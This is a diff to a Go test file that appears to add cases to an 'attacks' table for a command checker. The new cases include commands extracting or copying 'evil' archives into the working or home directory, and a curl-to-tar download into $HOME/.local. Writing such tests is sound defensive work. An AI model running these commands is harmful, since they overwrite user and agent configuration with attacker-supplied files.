@@ -163,6 +163,23 @@ var attacks = []struct {
 	{`cp -r ../okd/. .claude/`, false, true},
 	{`tar xf ../nosuch.tar`, false, true}, // tar fails: nothing written
 	{`cp -r ../nosuch/. .`, false, true},
+	{`tar xzf ../evil.tgz -C "$PWD"`, true, true},
+	{`tar xzf ../evil.tgz -C "$HOME"`, true, true},
+	{`tar xzf ../evil.tgz -C ~`, true, true},
+	{`D=.; tar xzf ../evil.tgz -C "$D"`, true, true},
+	{`tar xzf ../evil.tgz -C "$(pwd)"`, true, true},
+	{`cd "$PWD" && tar xzf ../evil.tgz`, true, true},
+	{`cp -r ../evil/. "$PWD"`, true, true},
+	{`cp -r ../evil/. "$HOME"`, true, true},
+	{`rsync -a ../evil/ "$PWD"/`, true, false},
+	{`tar --strip-components=1 -xzf ../evil-deep.tgz -C "$PWD"`, true, true},
+	{`tar xzf ../ok.tgz -C "$PWD"`, false, true},
+	{`tar xzf ../ok.tgz -C "$OUT"`, false, false},
+	{`cp -r ../okd/. "$PWD"`, false, true},
+	{`cd "$PWD" && tar xzf ../ok.tgz`, true, false}, // the archive's path is known only at run time then
+	{`curl -sL https://example.com/x.tgz | tar xz -C "$OUT"`, false, false},
+	{`curl -sL https://example.com/x.tgz | tar xz -C "$HOME/.local"`, true, false},
+	{`tar xzf nosuch.tgz -C "$PWD"`, false, true},
 }
 
 func TestAttacks(t *testing.T) {
